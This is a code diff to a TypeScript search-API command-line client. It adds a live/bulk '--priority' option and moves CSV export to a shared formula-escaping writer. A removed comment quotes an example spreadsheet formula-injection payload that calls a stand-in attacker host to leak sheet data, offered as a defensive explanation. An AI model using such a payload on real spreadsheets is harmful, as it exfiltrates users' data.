@@ -2,13 +2,13 @@ import { appendFileSync, existsSync, readFileSync } from 'node:fs';
 import { extname } from 'node:path';
 import { Presets, SingleBar } from 'cli-progress';
 import { type Command, InvalidArgumentError, Option } from 'commander';
-import { stringify } from 'csv-stringify/sync';
 import pLimit from 'p-limit';
 import pRetry, { AbortError } from 'p-retry';
 import pThrottle from 'p-throttle';
 import { MAX_DEPTH, MIN_DEPTH } from '../../../contracts/search.js';
 import { createV1Client, type V1Client, V1Error } from '../../client/v1Client.js';
 import { loadCliClientEnv } from '../../config/clients.js';
+import { csvLines } from '../../export/csv.js';
 import { type BatchProgress, donePerMinute, progressLine, submitsPerMinute, summaryLine } from '../progress.js';
 
 /**
@@ -36,6 +36,7 @@ interface SearchFlags {
   gl?: string;
   hl?: string;
   depth?: number;
+  priority?: 'live' | 'bulk';
 }
 
 /** --depth: results wanted, as /v1 takes it (docs/depth.md) */
@@ -62,7 +63,14 @@ const bodyOf = (keyword: string, o: SearchFlags) => ({
   ...(o.gl ? { gl: o.gl } : {}),
   ...(o.hl ? { hl: o.hl } : {}),
   ...(o.depth !== undefined ? { depth: o.depth } : {}),
+  ...(o.priority ? { priority: o.priority } : {}),
 });
+
+/** --priority: the lane the searches wait in (docs/fleet.md#lanes-and-fair-share) */
+const priorityOption = (fallback: 'live' | 'bulk', what: string) =>
+  new Option('--priority <lane>', `the lane the searches wait in: live or bulk (${what})`)
+    .choices(['live', 'bulk'])
+    .default(fallback);
 
 const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
 const pollGap = () => 1_500 + Math.random() * 500;
@@ -112,22 +120,11 @@ const domainOf = (link: string) => {
 
 const CSV_HEADER = ['keyword', 'position', 'title', 'link', 'domain'];
 
-/**
- * A keyword's CSV rows, one per organic result. Keywords, titles and links are anyone's text: a cell that starts
- * with `=`, `+`, `-`, `@`, a tab or a carriage return would be a live formula in a spreadsheet (a keyword
- * `=HYPERLINK("http://evil.example/?"&A1,"click")` leaks the sheet), so such a cell gets a leading `'`
- * (csv-stringify's `escape_formulas`).
- */
+/** A keyword's CSV rows, one per organic result, through the exports' one writer (it escapes formulas). */
 export const csvRows = (
   keyword: string,
   organic: ReadonlyArray<{ position: number; title: string; link: string }>,
-): string =>
-  organic.length === 0
-    ? ''
-    : stringify(
-        organic.map((r) => [keyword, r.position, r.title, r.link, domainOf(r.link)]),
-        { escape_formulas: true },
-      );
+): string => csvLines(organic.map((r) => [keyword, r.position, r.title, r.link, domainOf(r.link)]));
 
 export const registerSearchCommands = (program: Command) => {
   const clientOptions = (c: Command) =>
@@ -146,6 +143,7 @@ export const registerSearchCommands = (program: Command) => {
 
   clientOptions(program.command('search <keyword>'))
     .description('search one keyword on a running service and print the result (waits for it)')
+    .addOption(priorityOption('live', 'default live: an interactive search'))
     .addOption(new Option('--output <output>', 'json or compat').choices(['json', 'compat']).default('json'))
     .action(async (keyword: string, o: ClientFlags & SearchFlags & { output: string }) => {
       const client = clientOf(o);
@@ -162,6 +160,9 @@ export const registerSearchCommands = (program: Command) => {
     .description(
       'search every keyword of FILE (one per line; empty lines and # comments skipped) under the key’s rate, ' +
         'with a progress bar; results to --out as JSONL (whole results) or CSV (one row per organic result)',
+    )
+    .addOption(
+      priorityOption('bulk', 'default bulk: a batch waits behind live searches, which keep it from holding anyone up'),
     )
     .option('--out <file>', 'results.jsonl, or a .csv file', 'results.jsonl')
     .option('--concurrency <n>', 'keywords in flight at once', positive('--concurrency'), 8)
@@ -208,7 +209,7 @@ export const registerSearchCommands = (program: Command) => {
             `serp-api: warning: ${fresh} searches to submit but ${usage.remaining} left this month: the batch stops when the quota runs out (resume next month)`,
           );
         }
-        if (csv && !existsSync(o.out)) appendFileSync(o.out, stringify([CSV_HEADER]));
+        if (csv && !existsSync(o.out)) appendFileSync(o.out, csvLines([CSV_HEADER]));
         const record = (s: Record<string, string>) => appendFileSync(statePath, `${JSON.stringify(s)}\n`);
 
         const total = keywords.length;
